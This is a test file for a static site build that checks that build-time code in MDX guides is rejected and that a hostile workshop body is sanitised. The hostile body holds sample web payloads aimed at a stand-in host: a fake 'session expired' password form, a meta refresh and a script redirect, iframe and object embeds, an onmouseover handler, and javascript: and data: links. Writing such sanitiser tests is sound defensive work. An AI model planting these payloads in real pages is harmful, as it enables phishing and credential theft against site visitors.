/**
 * The guards behind validate: in a copy whose validator lets every body through (as a bug in it
 * would), a guide that holds code still does not build, and a hostile workshop body is published
 * without anything active in it.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as cheerio from 'cheerio';
import { afterAll, describe, expect, it } from 'vitest';
import { buildCopy, type BuiltCopy } from '../support/project-copy.ts';

const made: BuiltCopy[] = [];
afterAll(() => made.forEach((copy) => copy.remove()));

/** Replaces `from` with `to` in a file of the copy, and fails if `from` is not there. */
function rewrite(root: string, file: string, from: string, to: string) {
  const path = join(root, file);
  const text = readFileSync(path, 'utf8');
  expect(text, `${file} no longer contains ${from}`).toContain(from);
  writeFileSync(path, text.replace(from, to));
}

/** validate's body checks, turned off in a copy: every body passes them. */
function withoutBodyChecks(root: string) {
  const nothing = '{ findings: [], internalLinks: [] }';
  const validation = 'src/content-model/validation';
  rewrite(root, `${validation}/mdx-body.ts`, 'checkBodyTree(tree, { root, file })', nothing);
  rewrite(root, `${validation}/markdown-body.ts`, 'checkBodyTree(tree)', nothing);
}

function build(prepare: (root: string) => void) {
  const copy = buildCopy({ prepare });
  made.push(copy);
  return copy;
}

const append = (root: string, file: string, text: string) =>
  writeFileSync(join(root, file), `${readFileSync(join(root, file), 'utf8')}${text}`);

const HOSTILE_WORKSHOP_BODY = `
<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">

Your session has expired.

<form action="https://elsewhere.example/collect"><input name="password" type="password"><button>Sign in again</button></form>

<iframe src="https://elsewhere.example/frame"></iframe>

<object data="https://elsewhere.example/movie.swf"></object>

<script>document.location = "https://elsewhere.example/script"</script>

<style>main { display: none }</style>

A <span onmouseover="location='https://elsewhere.example/hover'">hover</span>,
[a script link](javascript:location='https://elsewhere.example/js'),
[a data link](data:text/html,elsewhere.example),
[an http link](http://elsewhere.example/plain) and
[the guide](/guides/start-here/).
`;

describe('a body that got past validate', () => {
  it('is a guide that imports node:fs: the MDX guard stops the build, naming the lines', () => {
    const result = build((root) => {
      withoutBodyChecks(root);
      append(
        root,
        'content/guides/start-here.mdx',
        "\nimport { writeFileSync } from 'node:fs';\n\n{writeFileSync('built-by-a-guide.txt', 'x')}\n",
      );
    });
    expect(result.status).not.toBe(0);
    expect(result.output).toContain(
      'The guide content/guides/start-here.mdx was not compiled: it holds what guides may not.',
    );
    expect(result.output).toContain(
      `content/guides/start-here.mdx:15:32 imports "node:fs", code that would run when the site is built (expected only the site's content components from src/components/content/, such as import QuestionBank from '../../src/components/content/QuestionBank.astro';)`,
    );
    expect(result.output).toContain(
      "content/guides/start-here.mdx:17:1 has {writeFileSync('built-by-a-guid...}, code that MDX would run when the site is built",
    );
    expect(result.distExists).toBe(false);
    expect(readdirSync(result.root)).not.toContain('built-by-a-guide.txt');
  });

  it('is a hostile workshop: the page is built with its text and nothing active', () => {
    const result = build((root) => {
      withoutBodyChecks(root);
      append(root, 'content/workshops/intro-workshop.md', HOSTILE_WORKSHOP_BODY);
    });
    expect(result.status, result.output).toBe(0);
    const page = readFileSync(join(result.dist, 'workshops/intro-workshop/index.html'), 'utf8');
    const $ = cheerio.load(page);
    const body = $('main .prose');
    expect(body.text()).toContain('Your session has expired.');
    // Only paragraphs and links are left of it: every other element was dropped.
    const tags = new Set(body.find('*').map((_, element) => element.tagName));
    expect([...tags].sort()).toEqual(['a', 'p']);
    expect($('meta[http-equiv="refresh"]').length).toBe(0);
    const eventAttributes = $('*')
      .toArray()
      .flatMap((element) => ('attribs' in element ? Object.keys(element.attribs) : []))
      .filter((name) => name.startsWith('on'));
    expect(eventAttributes).toEqual([]);
    expect(body.find('a:contains("the guide")').attr('href')).toBe('/guides/start-here/');
    expect(body.find('a:contains("a script link")').attr('href')).toBe(undefined);
    expect(body.find('a:contains("a data link")').attr('href')).toBe(undefined);
    expect(body.find('a:contains("an http link")').attr('href')).toBe(undefined);
    // No file of the site names the other host: no redirect, frame, form target or link to it.
    const files = readdirSync(result.dist, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name));
    expect(
      files.filter((file) => readFileSync(file, 'latin1').includes('elsewhere.example')),
    ).toEqual([]);
  });
});
